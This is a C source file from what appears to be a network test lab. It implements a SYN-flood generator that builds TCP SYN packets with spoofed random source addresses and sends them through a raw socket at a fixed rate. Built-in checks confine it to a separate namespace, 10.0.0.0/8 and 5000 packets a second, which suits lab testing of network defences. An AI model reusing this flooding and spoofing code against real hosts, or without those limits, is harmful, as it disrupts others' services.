#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/lab/actor.h"

enum {
	LAB_FLOOD_MOST_RATE = 5000,
	LAB_LAB_NET = 10, /* everything happens inside 10.0.0.0/8 */
};

/* A SYN as a host would send it, with a maximum segment size. */
struct lab_syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss_option[4];
} __attribute__((packed));

struct lab_pseudo_header {
	uint32_t from, to;
	uint8_t zero, protocol;
	uint16_t size;
	uint8_t segment[sizeof(struct tcphdr) + 4];
} __attribute__((packed));

static uint16_t lab_checksum(const void *data, size_t size)
{
	const uint8_t *bytes = data;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < size; i += 2)
		sum += ((uint32_t)bytes[i] << 8) | bytes[i + 1];
	if (size % 2)
		sum += (uint32_t)bytes[size - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static uint64_t lab_random(uint64_t *state)
{
	*state ^= *state << 13;
	*state ^= *state >> 7;
	*state ^= *state << 17;
	return *state;
}

static void lab_make_syn(struct lab_syn *syn, const struct sockaddr_in *to,
			 const struct lab_options *options, uint64_t *state)
{
	const uint32_t host_mask = UINT32_MAX >> options->spoof_prefix;
	const uint32_t hosts = host_mask - 1; /* without the network's and the broadcast address */
	const uint32_t host = 1 + (uint32_t)(lab_random(state) % hosts);
	const uint32_t from = (ntohl(options->spoof_net.s_addr) & ~host_mask) | host;
	struct lab_pseudo_header pseudo = { .protocol = IPPROTO_TCP };

	*syn = (struct lab_syn){
		.ip = {
			.version = 4,
			.ihl = 5,
			.tot_len = htons(sizeof(*syn)),
			.ttl = 64,
			.protocol = IPPROTO_TCP,
			.saddr = htonl(from),
			.daddr = to->sin_addr.s_addr,
		},
		.tcp = {
			.source = htons((uint16_t)(1024 + lab_random(state) % 64000)),
			.dest = to->sin_port,
			.seq = (uint32_t)lab_random(state),
			.doff = (sizeof(syn->tcp) + sizeof(syn->mss_option)) / 4,
			.syn = 1,
			.window = htons(64240),
		},
		.mss_option = { TCPOPT_MAXSEG, TCPOLEN_MAXSEG, 1460 >> 8, 1460 & 0xff },
	};
	pseudo.from = syn->ip.saddr;
	pseudo.to = syn->ip.daddr;
	pseudo.size = htons(sizeof(pseudo.segment));
	memcpy(pseudo.segment, &syn->tcp, sizeof(syn->tcp));
	memcpy(pseudo.segment + sizeof(syn->tcp), syn->mss_option, sizeof(syn->mss_option));
	syn->tcp.check = lab_checksum(&pseudo, sizeof(pseudo));
	syn->ip.check = lab_checksum(&syn->ip, sizeof(syn->ip));
}

/* Only in a laboratory: a made namespace, private addresses, a neighbour on the same link. */
static void lab_refuse_outside(const struct lab_options *options, const struct sockaddr_in *to)
{
	if (access("/proc/sys/net/ipv4/tcp_rmem", F_OK) < 0)
		lab_exit(LAB_EXIT_REFUSED, "synflood: can't tell which namespace this is");
	if (access("/proc/sys/net/ipv4/tcp_mem", F_OK) == 0)
		lab_exit(LAB_EXIT_REFUSED, "synflood: refused in the initial network namespace");
	if (ntohl(to->sin_addr.s_addr) >> 24 != LAB_LAB_NET ||
	    ntohl(options->spoof_net.s_addr) >> 24 != LAB_LAB_NET || options->spoof_prefix < 8)
		lab_exit(LAB_EXIT_REFUSED, "synflood: only from and to 10.0.0.0/8");
	if (options->rate > LAB_FLOOD_MOST_RATE || !options->count)
		lab_exit(LAB_EXIT_REFUSED, "synflood: at most %d a second, and a --count",
			 LAB_FLOOD_MOST_RATE);
}

static int lab_raw_socket(void)
{
	const int on = 1;
	const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	if (fd < 0)
		lab_exit(LAB_EXIT_REFUSED, "raw socket: %s", strerror(errno));
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_DONTROUTE, &on, sizeof(on)) < 0)
		lab_exit(LAB_EXIT_REFUSED, "raw socket options: %s", strerror(errno));
	return fd;
}

void lab_synflood(const struct lab_options *options)
{
	struct epoll_event events[LAB_EVENTS];
	struct sockaddr_in to;
	struct lab_loop loop;
	struct lab_syn syn;
	uint64_t state = 0;
	unsigned sent = 0;
	int64_t next_ns;
	int fd;

	if (options->address.ss_family != AF_INET || !options->spoof_net.s_addr || !options->rate)
		lab_exit(LAB_EXIT_USAGE, "synflood needs an IPv4 --to, --rate and --spoof-net");
	memcpy(&to, &options->address, sizeof(to));
	lab_refuse_outside(options, &to);
	if (getrandom(&state, sizeof(state), 0) != (ssize_t)sizeof(state))
		lab_exit(LAB_EXIT_FAILED, "getrandom: %s", strerror(errno));
	state |= 1;
	fd = lab_raw_socket();
	lab_loop_init(&loop, options->for_ns);
	next_ns = lab_now_ns();
	while (sent < options->count) {
		for (; sent < options->count && next_ns <= lab_now_ns(); sent++) {
			lab_make_syn(&syn, &to, options, &state);
			if (sendto(fd, &syn, sizeof(syn), 0, (const struct sockaddr *)&to,
				   sizeof(to)) != (ssize_t)sizeof(syn))
				lab_exit(LAB_EXIT_FAILED, "sendto: %s", strerror(errno));
			next_ns += LAB_SECOND_NS / options->rate;
		}
		if (sent >= options->rate)
			lab_ready("ready rate=%u", options->rate);
		if (lab_loop_wait(&loop, events, next_ns) < 0)
			break;
	}
	if (sent == options->count) {
		lab_ready("ready count=%u", sent);
		lab_loop_rest(&loop);
	}
	(void)printf("sent=%u\n", sent);
	(void)close(fd);
}
